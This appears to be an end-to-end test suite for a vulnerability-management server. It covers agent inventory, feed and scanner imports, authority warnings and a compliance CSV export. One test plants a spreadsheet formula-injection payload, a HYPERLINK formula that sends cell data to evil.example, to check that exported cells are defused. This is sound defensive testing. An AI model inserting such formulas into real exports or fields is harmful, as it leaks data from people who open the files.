// Vulnerabilities end to end against a real server: the agent enrolled and
// run on this machine, feeds matched into findings that close by themselves,
// a tampered upload refused, scanner imports, authority warnings, compliance.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync, readFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServer, Client, cli, bin, root, pgBase } from '../lib/server.mjs';

const T = { timeout: 60_000 };
let srv, coord, focal, other, state, hostId, bashVersion, work;

const token = (user) => cli(['admin', 'token', 'create', '--db', srv.db, '--username', user]).trim();
const client = (user) => { const c = new Client(srv.url); c.token = token(user); return c; };
const agent = (args) => spawnSync(bin, ['agent', ...args], { encoding: 'utf8' });

function upload(c, kind, body, query = '') {
  return c.req('POST', `/api/v1/imports/${kind}?name=${kind}-file${query}`, body,
    { 'Content-Type': 'application/octet-stream' });
}

function osvFeed(fixed) {
  return JSON.stringify({
    schema_version: '1.3.0', id: 'UNGCUU-TEST-0001', modified: '2026-11-01T00:00:00Z',
    published: '2026-11-01T00:00:00Z', aliases: ['CVE-2099-0001'],
    summary: 'Test advisory against the installed bash',
    affected: [{
      package: { ecosystem: 'Debian:12', name: 'bash' },
      ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed }] }],
    }],
    database_specific: { severity: 'HIGH' },
  });
}

before(async () => {
  srv = await startServer();
  coord = client('dieuphoi');
  focal = client('tamthanh');
  other = client('longhai');
  work = mkdtempSync(join(tmpdir(), 'ungcuu-vuln-'));
  state = join(work, 'agent');
  bashVersion = execFileSync('dpkg-query', ['-W', '-f=${Version}', 'bash'], { encoding: 'utf8' });
});

after(async () => { await srv?.stop(); });

test('the agent enrolls with a focal point token and stores its key privately', T, () => {
  const r = agent(['enroll', '--server', srv.url, '--token', token('tamthanh'),
    '--state', state, '--hostname', 'pc-tamthanh-01', '--json']);
  assert.equal(r.status, 0, r.stderr);
  const conf = JSON.parse(r.stdout);
  assert.match(conf.public_key, /^[0-9a-f]{64}$/);
  hostId = conf.host_id;
  const mode = execFileSync('stat', ['-c', '%a', join(state, 'agent.key')], { encoding: 'utf8' }).trim();
  assert.equal(mode, '600');
});

test('agent run sends this machine\'s inventory: every dpkg-query package, same version', T, async () => {
  const r = agent(['run', '--state', state, '--json']);
  assert.equal(r.status, 0, r.stderr);
  const sent = JSON.parse(r.stdout);
  assert.equal(sent.host_id, hostId);
  const h = await focal.get(`/api/v1/hosts/${hostId}`);
  assert.equal(h.status, 200);
  assert.equal(h.body.agent, true);
  assert.equal(h.body.org.code, 'pq-tamthanh');
  assert.ok(h.body.os.id.length > 0);
  const have = new Map(h.body.packages.map((p) => [`${p.name}:${p.arch}`, p.version]));
  const listed = execFileSync('dpkg-query', ['-W', '-f=${Package}\t${Architecture}\t${Version}\t${db:Status-Abbrev}\n'],
    { encoding: 'utf8' }).trim().split('\n').map((l) => l.split('\t'))
    .filter(([, , , st]) => st.trim().startsWith('ii'));
  assert.ok(listed.length > 50);
  for (const [name, arch, version] of listed) {
    assert.equal(have.get(`${name}:${arch}`), version, `${name}:${arch}`);
  }
  assert.equal(h.body.packages.length, listed.length);
});

test('another commune cannot see the host', T, async () => {
  assert.equal((await other.get(`/api/v1/hosts/${hostId}`)).status, 404);
});

test('a tampered inventory (bad signature) is refused and nothing is stored', T, async () => {
  const conf = JSON.parse(readFileSync(join(state, 'agent.json'), 'utf8'));
  const before = (await focal.get(`/api/v1/hosts/${hostId}`)).body;
  const inv = JSON.stringify({ schema: 'ungcuu-inventory/1', hostname: 'evil', collected_at: new Date().toISOString(),
    os: { family: 'linux', id: 'debian', version_id: '12' }, packages: [] });
  const r = await fetch(`${srv.url}/api/v1/agents/inventory`, {
    method: 'POST', body: inv,
    headers: { 'Content-Type': 'application/json', 'X-Agent-Key': conf.public_key, 'X-Agent-Signature': 'ab'.repeat(64) },
  });
  assert.equal(r.status, 401);
  const unknown = await fetch(`${srv.url}/api/v1/agents/inventory`, {
    method: 'POST', body: inv,
    headers: { 'Content-Type': 'application/json', 'X-Agent-Key': 'cd'.repeat(32), 'X-Agent-Signature': 'ab'.repeat(64) },
  });
  assert.equal(unknown.status, 401);
  const after = (await focal.get(`/api/v1/hosts/${hostId}`)).body;
  assert.equal(after.hostname, before.hostname);
  assert.equal(after.packages.length, before.packages.length);
  assert.equal(after.last_seen_at, before.last_seen_at);
});

test('an OSV feed marks the installed bash vulnerable; KEV makes it known-exploited', T, async () => {
  assert.equal((await focal.req('POST', '/api/v1/imports/osv', osvFeed('99:1'),
    { 'Content-Type': 'application/json' })).status, 403, 'a focal point may not load feeds');
  const r = await upload(coord, 'osv', osvFeed('99:1'));
  assert.equal(r.status, 200, r.text);
  assert.equal(r.body.records, 1);
  let f = await focal.get(`/api/v1/findings?host=${hostId}&status=open`);
  const bash = f.body.items.find((x) => x.vuln_id === 'UNGCUU-TEST-0001');
  assert.ok(bash, JSON.stringify(f.body));
  assert.equal(bash.package, 'bash');
  assert.equal(bash.installed_version, bashVersion);
  assert.equal(bash.fixed_version, '99:1');
  assert.equal(bash.severity, 'high');
  assert.equal(bash.kev, false);
  const kev = JSON.stringify({ title: 'CISA KEV', catalogVersion: '2026.11.24', dateReleased: '2026-11-24T00:00:00.000Z', count: 1,
    vulnerabilities: [{ cveID: 'CVE-2099-0001', vendorProject: 'GNU', product: 'Bash', vulnerabilityName: 'test',
      dateAdded: '2026-11-20', shortDescription: 'test', requiredAction: 'Apply updates.', dueDate: '2026-12-11',
      knownRansomwareCampaignUse: 'Unknown', notes: '', cwes: [] }] });
  assert.equal((await upload(coord, 'kev', kev)).status, 200);
  f = await focal.get(`/api/v1/findings?host=${hostId}&kev=true`);
  assert.ok(f.body.items.some((x) => x.vuln_id === 'UNGCUU-TEST-0001' && x.kev === true), JSON.stringify(f.body));
  // Re-import is idempotent: same record, updated in place, still one finding.
  const again = await upload(coord, 'osv', osvFeed('99:1'));
  assert.equal(again.body.updated, 1);
  f = await focal.get(`/api/v1/findings?host=${hostId}&vuln=UNGCUU-TEST-0001`);
  assert.equal(f.body.items.length, 1);
});

test('an authority warning shows the target its affected host; it acknowledges and fixes', T, async () => {
  const deadline = new Date(Date.now() + 7 * 86400e3).toISOString();
  const w = await coord.post('/api/v1/warnings', { title: 'Cảnh báo lỗ hổng bash', severity: 'high',
    cves: ['CVE-2099-0001'], deadline, target_org_codes: ['pq-tamthanh', 'pq-longhai'], source: 'Sở TT&TT' });
  assert.equal(w.status, 201, w.text);
  assert.equal((await focal.post('/api/v1/warnings', { title: 'x', severity: 'low', deadline,
    target_org_codes: ['pq-tamthanh'] })).status, 403);
  const mine = await focal.get(`/api/v1/warnings/${w.body.id}`);
  assert.equal(mine.status, 200);
  const t = mine.body.targets.find((x) => x.org.code === 'pq-tamthanh');
  assert.ok(t.affected_hosts.some((h) => h.id === hostId && h.items.includes('CVE-2099-0001')));
  assert.ok(!mine.body.targets.some((x) => x.org.code === 'pq-longhai'), 'a target sees only itself');
  assert.equal((await focal.post(`/api/v1/warnings/${w.body.id}/acknowledge`, {})).status, 200);
  const done = await focal.post(`/api/v1/warnings/${w.body.id}/fixed`, { note: 'đã cập nhật' });
  assert.equal(done.status, 200);
  const all = await coord.get(`/api/v1/warnings/${w.body.id}`);
  const tt = all.body.targets.find((x) => x.org.code === 'pq-tamthanh');
  assert.ok(tt.acknowledged_at && tt.fixed_at);
  const late = await coord.get('/api/v1/warnings');
  assert.equal(late.body.items.find((x) => x.id === w.body.id).targets.fixed, 1);
});

test('accepting a risk needs a reason and an expiry, under If-Match', T, async () => {
  const f = (await focal.get(`/api/v1/findings?host=${hostId}&vuln=UNGCUU-TEST-0001`)).body.items[0];
  assert.equal((await focal.patch(`/api/v1/findings/${f.id}`, { status: 'accepted' },
    { 'If-Match': `"${f.version}"` })).status, 422);
  assert.equal((await focal.patch(`/api/v1/findings/${f.id}`, { status: 'accepted', reason: 'x',
    accepted_until: '2027-01-01T00:00:00Z' })).status, 428);
  const ok = await focal.patch(`/api/v1/findings/${f.id}`, { status: 'accepted', reason: 'Máy cô lập, chờ bản vá',
    accepted_until: '2027-01-01T00:00:00Z' }, { 'If-Match': `"${f.version}"` });
  assert.equal(ok.status, 200, ok.text);
  assert.equal(ok.body.status, 'accepted');
  assert.equal((await other.patch(`/api/v1/findings/${f.id}`, { status: 'open' },
    { 'If-Match': `"${ok.body.version}"` })).status, 404);
});

test('an accepted risk reopens once its expiry has passed', T, async () => {
  let f = (await focal.get(`/api/v1/findings?host=${hostId}&vuln=UNGCUU-TEST-0001`)).body.items[0];
  assert.equal(f.status, 'accepted');
  const soon = new Date(Date.now() + 1000).toISOString();
  const r = await focal.patch(`/api/v1/findings/${f.id}`, { status: 'accepted', reason: 'một giây',
    accepted_until: soon }, { 'If-Match': `"${f.version}"` });
  assert.equal(r.status, 200, r.text);
  await new Promise((ok) => setTimeout(ok, 1300));
  assert.equal((await focal.post('/api/v1/findings/match', {})).status, 200);
  f = (await focal.get(`/api/v1/findings?host=${hostId}&vuln=UNGCUU-TEST-0001`)).body.items[0];
  assert.equal(f.status, 'open');
});

test('ungcuu asset: the registry from the command line, through the API', T, () => {
  const env = { ...process.env, UNGCUU_URL: srv.url, UNGCUU_TOKEN: token('tamthanh') };
  const run = (args) => spawnSync(bin, ['asset', ...args, '--json'], { encoding: 'utf8', env });
  const sys = run(['system', 'add', '--name', 'Cổng thông tin xã', '--level', '2', '--info-type', 'public']);
  assert.equal(sys.status, 0, sys.stderr);
  const s = JSON.parse(sys.stdout);
  assert.equal(s.org.code, 'pq-tamthanh');
  assert.equal(s.level, 2);
  const edited = run(['system', 'edit', s.id, '--level', '3']);
  assert.equal(edited.status, 0, edited.stderr);
  assert.equal(JSON.parse(edited.stdout).level, 3);
  assert.equal(JSON.parse(edited.stdout).version, 2);
  const stale = run(['system', 'edit', s.id, '--level', '1', '--version', '1']);
  assert.equal(stale.status, 1);
  assert.match(stale.stderr, /412/);
  const host = run(['host', 'add', '--hostname', 'web-tamthanh', '--address', '10.1.2.3', '--system', s.id]);
  assert.equal(host.status, 0, host.stderr);
  const h = JSON.parse(host.stdout);
  assert.deepEqual(h.addresses, ['10.1.2.3']);
  assert.equal(h.system.id, s.id);
  const list = JSON.parse(run(['host', 'list', '--system', s.id]).stdout);
  assert.deepEqual(list.items.map((x) => x.hostname), ['web-tamthanh']);
  assert.equal(JSON.parse(run(['host', 'show', h.id]).stdout).hostname, 'web-tamthanh');
  const dup = run(['host', 'add', '--hostname', 'web-tamthanh']);
  assert.equal(dup.status, 1);
  assert.match(dup.stderr, /409/);
  const table = spawnSync(bin, ['asset', 'system', 'list'], { encoding: 'utf8', env });
  assert.equal(table.status, 0);
  assert.match(table.stdout, /Cổng thông tin xã/);
  assert.equal(spawnSync(bin, ['asset', 'system'], { env }).status, 2);
  assert.equal(spawnSync(bin, ['asset', 'host', 'show', 'nope'], { env }).status, 2);
});

test('a newer feed whose fix is older than the installed version closes the finding', T, async () => {
  assert.equal((await upload(coord, 'osv', osvFeed('0.1'))).status, 200);
  const f = await focal.get(`/api/v1/findings?host=${hostId}&vuln=UNGCUU-TEST-0001`);
  assert.equal(f.body.items[0].status, 'fixed');
  assert.ok(f.body.items[0].fixed_at);
});

test('a malformed feed names the file and position and changes nothing', T, async () => {
  const before = (await coord.get('/api/v1/vulns/UNGCUU-TEST-0001')).body;
  const r = await upload(coord, 'osv', osvFeed('99:1').slice(0, 120));
  assert.ok(r.status >= 400 && r.status < 500, r.text);
  assert.match(r.body.detail + JSON.stringify(r.body.errors ?? []), /osv-file/);
  const after = (await coord.get('/api/v1/vulns/UNGCUU-TEST-0001')).body;
  assert.deepEqual(after, before);
});

test('nmap and OpenVAS reports create hosts, services and findings; NVD CPE ranges match', T, async () => {
  const nmap = readFileSync(join(root, 'tests/data/scans/nmap_script_vulners.xml'));
  const nvd = JSON.stringify({ resultsPerPage: 1, startIndex: 0, totalResults: 1, format: 'NVD_CVE', version: '2.0',
    timestamp: '2026-11-24T00:00:00.000', vulnerabilities: [{ cve: { id: 'CVE-2099-0002', sourceIdentifier: 'test',
      published: '2026-11-01T00:00:00.000', lastModified: '2026-11-01T00:00:00.000', vulnStatus: 'Analyzed',
      descriptions: [{ lang: 'en', value: 'OpenSSH before 8.0 test' }],
      metrics: { cvssMetricV31: [{ source: 'nvd@nist.gov', type: 'Primary', cvssData: { version: '3.1',
        vectorString: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H', baseScore: 9.8, baseSeverity: 'CRITICAL' } }] },
      configurations: [{ nodes: [{ operator: 'OR', negate: false, cpeMatch: [{ vulnerable: true,
        criteria: 'cpe:2.3:a:openbsd:openssh:*:*:*:*:*:*:*:*', versionEndExcluding: '8.0', matchCriteriaId: 'X' }] }] }] } }] });
  assert.equal((await upload(coord, 'nvd', nvd)).status, 200);
  const scan = await upload(focal, 'nmap', nmap, '&org=pq-tamthanh');
  assert.equal(scan.status, 200, scan.text);
  assert.ok(scan.body.hosts >= 1);
  const hosts = (await focal.get('/api/v1/hosts?org=pq-tamthanh')).body.items;
  const scanned = hosts.find((h) => h.last_scan_at && h.id !== hostId);
  assert.ok(scanned, JSON.stringify(hosts));
  const detail = (await focal.get(`/api/v1/hosts/${scanned.id}`)).body;
  assert.ok(detail.services.some((s) => s.cpe.startsWith('cpe:2.3:a:openbsd:openssh')), JSON.stringify(detail.services));
  const f = await focal.get(`/api/v1/findings?host=${scanned.id}`);
  assert.ok(f.body.items.some((x) => x.vuln_id === 'CVE-2099-0002' && x.severity === 'critical'), JSON.stringify(f.body));
  const ov = await upload(focal, 'openvas', readFileSync(join(root, 'tests/data/scans/one_vuln.xml')), '&org=pq-tamthanh');
  assert.equal(ov.status, 200, ov.text);
  assert.ok(ov.body.findings >= 1);
  assert.equal((await upload(other, 'nmap', nmap, '&org=pq-tamthanh')).status, 404, 'not in longhai\'s scope');
});

test('the compliance view counts reporting hosts, scans and findings; CSV export', T, async () => {
  // The sample scans ran in 2020 and 2023: the six-month scan (T11) is overdue...
  let row = (await coord.get('/api/v1/compliance')).body.items.find((x) => x.org.code === 'pq-tamthanh');
  assert.ok(Date.parse(row.last_scan_at) < Date.now() - 183 * 86400e3, row.last_scan_at);
  assert.equal(row.scan_overdue, true);
  // ...until a scan made today is imported.
  const now = Math.floor(Date.now() / 1000);
  const fresh = readFileSync(join(root, 'tests/data/scans/nmap_script_vulners.xml'), 'utf8')
    .replace(/start="\d+"/, `start="${now}"`);
  assert.equal((await upload(focal, 'nmap', fresh, '&org=pq-tamthanh')).status, 200);
  const c = await coord.get('/api/v1/compliance');
  assert.equal(c.status, 200);
  row = c.body.items.find((x) => x.org.code === 'pq-tamthanh');
  assert.ok(row.hosts >= 2);
  assert.equal(row.hosts_reporting, 1);
  assert.equal(row.scan_overdue, false);
  assert.ok(row.open_findings.critical >= 1);
  // An organisation with no registered host has nothing to scan yet.
  const nohosts = c.body.items.find((x) => x.org.code === 'pq-longhai');
  assert.equal(nohosts.hosts, 0);
  assert.equal(nohosts.scan_overdue, false);
  const csv = await coord.get('/api/v1/compliance?format=csv');
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-type'), /text\/csv/);
  assert.match(csv.text, /^org_code,org_name,hosts,/);
  assert.match(csv.text, /pq-tamthanh,UBND xã Tam Thanh,/);
});

test('the compliance CSV defuses formulas in every cell (one CSV writer for all)', T, async () => {
  const name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")';
  cli(['admin', 'org', 'add', '--db', srv.db, '--code', 'pq-formula', '--name', name, '--kind', 'agency',
    '--parent', 'pq']);
  const csv = await coord.get('/api/v1/compliance?format=csv');
  assert.equal(csv.status, 200, csv.text);
  const line = csv.text.split('\r\n').find((l) => l.startsWith('pq-formula,'));
  assert.ok(line, csv.text);
  assert.ok(line.startsWith(`pq-formula,"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào"")",`), line);
  for (const l of csv.text.split('\r\n')) {
    for (const cellStart of l.split(',')) assert.ok(!/^[=+@]/.test(cellStart), `unguarded cell in ${l}`);
  }
});

test('ungcuu import on the command line: feeds and a bad file', T, () => {
  const feed = join(work, 'feed.json');
  writeFileSync(feed, osvFeed('99:1'));
  const ok = spawnSync(bin, ['import', 'osv', feed, '--db', srv.db, '--json'], { encoding: 'utf8' });
  assert.equal(ok.status, 0, ok.stderr);
  assert.equal(JSON.parse(ok.stdout)[0].records, 1);
  const bad = join(work, 'bad.json');
  writeFileSync(bad, '{"id": "X", "affected": [');
  const r = spawnSync(bin, ['import', 'osv', bad, '--db', srv.db], { encoding: 'utf8' });
  assert.equal(r.status, 1);
  assert.match(r.stderr, /bad\.json/);
  assert.equal(spawnSync(bin, ['import', 'nope', feed, '--db', srv.db]).status, 2);
  assert.ok(pgBase || existsSync(srv.db));   // a PostgreSQL database is no file
});
